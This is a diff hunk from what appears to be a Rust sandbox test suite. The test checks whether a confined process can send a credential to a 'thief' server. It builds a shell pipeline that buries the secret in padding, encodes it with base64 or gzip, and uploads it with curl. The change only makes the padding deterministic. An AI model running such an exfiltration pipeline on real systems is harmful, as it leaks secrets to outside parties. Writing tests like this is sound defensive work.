@@ -25,7 +25,7 @@ lab_tests! {
         let (thief, credential) = (thief(), Credential::new());
         for coding in ["cat", "base64 -w0", "gzip"] {
             let script = format!(
-                "(head -c 3000000 /dev/urandom | od -An -c -v; printf '%s' '{}'; head -c 100000 /dev/zero) | {coding} | curl -sS -T - $URL/up",
+                "(perl -e 'srand 7; print pack(q(C*), map {{ int rand 256 }} 1..3000000)' | od -An -c -v; printf '%s' '{}'; head -c 100000 /dev/zero) | {coding} | curl -sS -T - $URL/up",
                 credential.text(),
             );
             let outcome = confined(lab, Identity::Own).run(&bash(&script));
